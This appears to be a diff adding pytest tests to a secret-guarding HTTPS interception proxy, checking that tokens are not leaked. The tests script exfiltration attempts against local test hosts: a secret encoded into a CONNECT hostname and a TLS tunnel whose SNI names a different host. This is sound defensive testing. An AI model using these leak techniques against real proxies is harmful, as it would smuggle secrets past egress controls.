@@ -43,7 +43,7 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
     port = origin.port
     sec = Secret(SecretSpec("GH", "env", "GH", ("api.bound.test",)), VALUE, PH)
     rig = Rig([f"{n}:{port}" for n in NAMES], op, [sec], [ca.read_text()],
-              model_hosts=["api.anthropic.com"])
+              model_hosts=["api.anthropic.com"], inspect=["other.test"])
     box_ca = d / "box-ca.pem"
     assert rig.mitm.ca_pem is not None
     box_ca.write_text(rig.mitm.ca_pem)
@@ -211,3 +211,43 @@ def test_value_split_across_body_chunks_never_reaches_the_origin(world: dict[str
     # The head went on; the body was held back by the scanner's span and then cut.
     bodies = [e["body"] for e in world["origin"].log if e["path"] == "/split"]
     assert bodies and all(VALUE[:6] not in b and b"data=" not in b for b in bodies)
+
+
+def test_inspect_all_reads_unbound_hosts_and_catches_the_placeholder(world: dict[str, Any]) -> None:
+    """Under inspection, an unbound host is read: clean requests pass, a placeholder does not."""
+    url = f"https://other.test:{world['port']}/page"
+    ok = curl(world, url)
+    assert ok.stdout.endswith("200"), ok.stderr
+    assert dict(last(world)["headers"]).get("accept-encoding") == "identity"  # it was read
+    bad = curl(world, url, "-H", f"Authorization: Bearer {PH.decode()}")
+    assert bad.stdout.endswith("403") and "secret GH" in bad.stdout
+    leak = world["rig"].records("tkbox.secret.leak")[-1]["body"]
+    assert leak["host"] == "other.test" and leak["kind"] == "placeholder"
+
+
+def test_value_in_the_proxy_target_host_is_never_recorded(world: dict[str, Any]) -> None:
+    """Attack: CONNECT to <value>.example, so the value lands in approval or refusal records."""
+    host = VALUE.decode().lower().replace("_", "-") + ".example"
+    p = subprocess.run(["curl", "-sS", "--proxy", world["rig"].proxy, "-w", "\n%{http_code}",
+                        f"https://{host}/"], capture_output=True, text=True, timeout=60)
+    assert "403" in p.stdout + p.stderr
+    leak = world["rig"].records("tkbox.secret.leak")[-1]["body"]
+    assert leak["where"] == "proxy target host" and leak["host"] == "(withheld)"
+    everything = json.dumps(world["rig"].records())
+    assert VALUE.decode().lower().replace("_", "-") not in everything.lower()
+
+
+@pytest.mark.parametrize("sni", ["other.test", None])
+def test_client_hello_must_name_the_tunnels_host(world: dict[str, Any], sni: str | None) -> None:
+    """Attack: open a tunnel to a bound host, then speak TLS for another name (or none)."""
+    raw = socket.create_connection(("127.0.0.1", world["rig"].port), timeout=30)
+    raw.sendall(f"CONNECT api.bound.test:{world['port']} HTTP/1.1\r\n"
+                "Host: api.bound.test\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += raw.recv(4096)
+    ctx = ssl.create_default_context(cafile=str(world["box_ca"]))
+    ctx.check_hostname = False
+    with pytest.raises((ssl.SSLError, ConnectionError)):
+        ctx.wrap_socket(raw, server_hostname=sni).sendall(b"GET / HTTP/1.1\r\n\r\n")
+    raw.close()
